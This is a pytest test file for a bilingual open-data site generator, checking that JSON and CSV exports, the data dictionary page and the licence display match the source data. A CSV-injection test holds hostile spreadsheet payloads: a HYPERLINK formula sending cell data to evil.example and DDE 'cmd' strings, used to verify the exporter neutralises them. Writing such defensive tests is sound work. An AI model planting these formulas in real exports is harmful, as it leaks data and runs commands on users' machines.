"""Open data: JSON and CSV files equal to data/, their page in each language, the dictionary and the licence."""

import csv
import io
import json
import re
import shutil
from pathlib import Path
from urllib.parse import urljoin

import pytest
import yaml
from bs4 import BeautifulSoup

from conftest import CONTENT, LANGUAGES, PAGE_PAIRS, ROOT, build
from plan_ovt import opendata, rendering
from plan_ovt.loading import DataError, load_data

DATA = load_data(CONTENT / "data", LANGUAGES)
PATHS = opendata.paths(DATA)
# The page that lists the files (whatever its name): the one that calls open_data_files().
PAGE = next(pair for pair in PAGE_PAIRS
            if "open_data_files(" in (CONTENT / "docs" / LANGUAGES[0] / pair[LANGUAGES[0]]["file"]).read_text("utf-8"))


def read_csv(site, kind):
    with open(Path(site) / PATHS[kind], encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def joined(values):
    return opendata.LIST_SEPARATOR.join(values)


# The files equal data/


def test_json_holds_the_data_files_as_they_are(site):
    content = json.loads((Path(site) / PATHS["json"]).read_text(encoding="utf-8"))
    assert set(content) == {"status", "licence", "plan", "strategy", "itq", "regions"}
    assert content["status"] == opendata.plain(DATA["publication"]["status"])
    assert content["licence"] == opendata.plain(DATA["publication"]["licence"])
    assert content["plan"] == opendata.plain(dict(DATA["plan"], approved_on=DATA["plan"]["approved_on"].isoformat()))
    for name in ("strategy", "itq", "regions"):
        assert content[name] == opendata.plain(DATA[name])
    assert "]{lang=" not in json.dumps(content)


def test_actions_csv_has_one_row_per_action_with_sector_units_and_deadline(site):
    rows = read_csv(site, "actions")
    plan = DATA["plan"]
    units = {unit["id"]: unit for unit in plan["units"]}
    expected = [(sector, action) for sector in plan["sectors"] for action in sector["actions"]]
    assert len(rows) == len(expected)
    for row, (sector, action) in zip(rows, expected):
        assert row["action_id"] == action["id"]
        assert row["sector_id"] == sector["id"]
        unit_ids = rendering.action_units(sector, action)
        deadline = rendering.action_deadline(sector, action)
        assert row["responsible_unit_ids"] == joined(unit_ids)
        assert row["deadline_date"] == (deadline["date"] if "date" in deadline else "")
        for lang in LANGUAGES:
            assert row[f"text_{lang}"] == opendata.plain(action["text"][lang])
            assert row[f"objective_{lang}"] == plan["objective"][lang]
            assert row[f"sector_{lang}"] == sector["name"][lang]
            assert row[f"deadline_{lang}"] == rendering.deadline_label(deadline, lang)
            assert row[f"responsible_units_{lang}"] == joined(opendata.plain(units[unit]["name"][lang])
                                                              for unit in unit_ids)


def test_regions_csv_has_every_region_and_itq_presence(site):
    rows = read_csv(site, "regions")
    itq = DATA["itq"]
    assert [(row["region_number"], row["region_name"]) for row in rows] == [
        (region["number"], region["name"]) for region in DATA["regions"]]
    for row in rows:
        number = row["region_number"]
        assert row["itq_office"] == ("true" if number in itq["office_regions"] else "false")
        assert row["itq_head_office"] == ("true" if number == itq["head_office"]["region"] else "false")
        for lang in LANGUAGES:
            assert row[f"business_location_cities_{lang}"] == joined(
                place["city"][lang] for place in itq["business_locations"] if place["region"] == number)
            assert row[f"csri_cities_{lang}"] == joined(
                place["city"][lang] for place in itq["csri"] if place["region"] == number)


@pytest.mark.parametrize("kind", ["actions", "regions"])
def test_csv_is_utf8_without_bom_with_crlf_lines(site, kind):
    raw = (Path(site) / PATHS[kind]).read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    raw.decode("utf-8")
    assert raw.count(b"\r\n") == len(read_csv(site, kind)) + 1


# The page


def page_soup(site, lang):
    return BeautifulSoup((Path(site) / PAGE[lang]["url"]).read_text(encoding="utf-8"), "lxml")


@pytest.mark.parametrize("lang", LANGUAGES)
def test_page_links_every_file_with_its_real_size(site, lang):
    links = page_soup(site, lang).select("ul.open-data-files a")
    assert len(links) == len(PATHS)
    for link, path in zip(links, PATHS.values()):
        assert urljoin("https://h/" + PAGE[lang]["url"], link["href"]) == "https://h/" + path
        size = rendering.file_size((Path(site) / path).stat().st_size, DATA["labels"], lang)
        assert f", {size})" in link.parent.get_text()


@pytest.mark.parametrize("lang", LANGUAGES)
def test_dictionary_names_every_column_of_each_csv_in_order(site, lang):
    tables = page_soup(site, lang).select("table.data-dictionary")
    assert len(tables) == 2
    for table, kind in zip(tables, ("actions", "regions")):
        assert table.caption.get_text(strip=True) == PATHS[kind].rsplit("/", 1)[-1]
        header = next(csv.reader(io.StringIO((Path(site) / PATHS[kind]).read_text(encoding="utf-8"))))
        assert [th.get_text(strip=True) for th in table.select("tbody th")] == header
        assert all(td.get_text(strip=True) for td in table.select("tbody td"))


@pytest.mark.parametrize("lang", LANGUAGES)
def test_page_names_the_json_fields(site, lang):
    content = json.loads((Path(site) / PATHS["json"]).read_text(encoding="utf-8"))
    shown = {code.get_text() for code in page_soup(site, lang).find("article").find_all("code")}
    assert set(content) <= shown


@pytest.mark.parametrize("lang", LANGUAGES)
def test_page_names_only_json_fields_and_every_state_of_the_status(site, lang):
    """The paragraph on the JSON file names its fields, the states of `status`, and nothing the file lacks."""
    content = json.loads((Path(site) / PATHS["json"]).read_text(encoding="utf-8"))
    paragraph = next(p for p in page_soup(site, lang).find("article").find_all("p")
                     if "licence" in {code.get_text() for code in p.find_all("code")})
    named = {code.get_text() for code in paragraph.find_all("code")}
    states = set(json.loads((ROOT / "plan_ovt/schemas/publication.json").read_text(encoding="utf-8"))
                 ["properties"]["status"]["properties"]["state"]["enum"])
    assert set(content) | states <= named
    assert named <= set(content) | set(content["status"]) | states | set(LANGUAGES) | {"null"}


def texts_of(value):
    """Every dict of a JSON document that holds a text in some language of the site."""
    if isinstance(value, dict):
        if set(value) & set(LANGUAGES):
            yield value
        for item in value.values():
            yield from texts_of(item)
    elif isinstance(value, list):
        for item in value:
            yield from texts_of(item)


def test_each_text_of_the_json_is_in_every_language_as_the_page_says(site):
    content = json.loads((Path(site) / PATHS["json"]).read_text(encoding="utf-8"))
    texts = list(texts_of(content))
    assert texts
    for text in texts:
        assert set(text) == set(LANGUAGES), text


def test_language_columns_are_where_the_page_says(site):
    """Both files have each of their language columns in every language; in the regions file, only cities."""
    header = {kind: next(csv.reader(io.StringIO((Path(site) / PATHS[kind]).read_text(encoding="utf-8"))))
              for kind in ("actions", "regions")}
    for kind in header:
        stems = {lang: {name[: -len(lang) - 1] for name in header[kind] if name.endswith(f"_{lang}")}
                 for lang in LANGUAGES}
        assert stems[LANGUAGES[0]] and all(stems[lang] == stems[LANGUAGES[0]] for lang in LANGUAGES)
        if kind == "regions":
            assert all(stem.endswith("_cities") for stem in stems[LANGUAGES[0]])
    for lang in LANGUAGES:
        shown = {code.get_text() for code in page_soup(site, lang).find("article").find_all("code")}
        assert {f"_{other}" for other in LANGUAGES} <= shown


def test_dates_are_written_year_month_day_as_the_page_says(site):
    content = json.loads((Path(site) / PATHS["json"]).read_text(encoding="utf-8"))
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", content["plan"]["approved_on"])
    dates = [row["deadline_date"] for row in read_csv(site, "actions")]
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", day) for day in dates if day)


NO_LICENCE = {"fr": "Aucune licence n’a encore été précisée", "en": "No licence has been specified"}


def assert_licence_shown(article, licence, lang):
    """The page names the licence and links its text, or says that none is set yet: as the data says."""
    if licence:
        assert article.find("a", href=licence["url"]).get_text() == opendata.plain(licence["name"])[lang]
        assert NO_LICENCE[lang] not in article.get_text(" ")
    else:
        assert NO_LICENCE[lang] in article.get_text(" ")


@pytest.mark.parametrize("lang", LANGUAGES)
def test_page_says_what_the_data_says_of_the_licence(site, lang):
    assert_licence_shown(page_soup(site, lang).find("article"), DATA["publication"]["licence"], lang)


@pytest.mark.parametrize("licence", [None, {"name": {"fr": "Licence d’essai", "en": "Test licence"},
                                            "url": "https://licence.example/"}], ids=["none-yet", "set"])
def test_the_licence_the_publisher_sets_shows_on_the_page_and_in_the_json(project, tmp_path, monkeypatch, licence):
    path = project / "data/publication.yml"
    publication = yaml.safe_load(path.read_text(encoding="utf-8"))
    publication["licence"] = licence
    path.write_text(yaml.safe_dump(publication, allow_unicode=True, sort_keys=False), encoding="utf-8")
    monkeypatch.setenv("PLAN_OVT_PDF", "0")
    result = build(project, tmp_path / "out")
    assert result.returncode == 0, result.stderr
    for lang in LANGUAGES:
        assert_licence_shown(page_soup(tmp_path / "out", lang).find("article"), licence, lang)
    content = json.loads((tmp_path / "out" / PATHS["json"]).read_text(encoding="utf-8"))
    assert content["licence"] == licence


def test_a_licence_without_a_web_address_is_refused(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    for file in (CONTENT / "data").glob("*.yml"):
        (data / file.name).write_text(file.read_text(encoding="utf-8"), encoding="utf-8")
    publication = data / "publication.yml"
    settings = yaml.safe_load(publication.read_text(encoding="utf-8"))
    settings["licence"] = {"name": {"fr": "L", "en": "L"}, "url": "http://licence.example/"}
    publication.write_text(yaml.safe_dump(settings, allow_unicode=True, sort_keys=False), encoding="utf-8")
    with pytest.raises(DataError, match=r"publication\.yml:\d+: champ « licence\.url » : forme inattendue"):
        load_data(data, LANGUAGES)


# Formulas written into data stay text in the CSV files (OWASP CSV injection)


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def test_a_formula_written_in_the_data_is_plain_text_in_the_csv_and_exact_in_the_json(tmp_path):
    """What an editor (or the web editor) saves into data/: action texts, a sector's name, a city."""
    data = Path(shutil.copytree(CONTENT / "data", tmp_path / "data"))
    plan = yaml.safe_load((data / "plan.yml").read_text(encoding="utf-8"))
    action = plan["sectors"][0]["actions"][0]
    action["text"] = {"fr": FORMULAS[0], "en": FORMULAS[1]}
    plan["sectors"][0]["name"] = {"fr": FORMULAS[2], "en": FORMULAS[3]}
    plan["units"][0]["name"] = {"fr": FORMULAS[4], "en": FORMULAS[5]}
    (data / "plan.yml").write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False), encoding="utf-8")
    itq = yaml.safe_load((data / "itq.yml").read_text(encoding="utf-8"))
    itq["business_locations"][0]["city"] = {"fr": FORMULAS[0], "en": FORMULAS[1]}
    (data / "itq.yml").write_text(yaml.safe_dump(itq, allow_unicode=True, sort_keys=False), encoding="utf-8")
    loaded = load_data(data, LANGUAGES)
    files = opendata.files(loaded, LANGUAGES)
    cells = [cell for kind in ("actions", "regions")
             for row in csv.reader(io.StringIO(files[kind][1].decode("utf-8"), newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(opendata.FORMULA_START)] == []
    for formula in FORMULAS:
        assert any(cell.startswith("'" + formula) for cell in cells), formula
    content = json.loads(files["json"][1])
    assert content["plan"]["sectors"][0]["actions"][0]["text"] == {"fr": FORMULAS[0], "en": FORMULAS[1]}
    assert content["itq"]["business_locations"][0]["city"] == {"fr": FORMULAS[0], "en": FORMULAS[1]}


@pytest.mark.parametrize("cell, written", [("=1+1", "'=1+1"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"),
                                           ("a=1", "a=1"), ("", ""), ("true", "true"), (3, 3)])
def test_only_a_cell_that_starts_a_formula_gets_an_apostrophe(cell, written):
    assert opendata.inert(cell) == written


# Unit tests


@pytest.mark.parametrize("size, lang, shown", [
    (1, "fr", "1\u00a0Ko"), (85_843, "fr", "86\u00a0Ko"), (1_234_000, "fr", "1\u00a0234\u00a0Ko"),
    (85_843, "en", "86\u00a0KB"), (1_234_000, "en", "1,234\u00a0KB")])
def test_file_size_in_the_page_language(size, lang, shown):
    assert rendering.file_size(size, DATA["labels"], lang) == shown


def test_a_column_per_language_for_every_text():
    names = [name for name, _, _ in opendata.expanded(opendata.ACTION_COLUMNS, ["fr", "en", "es"])]
    assert names[:4] == ["action_id", "text_fr", "text_en", "text_es"]
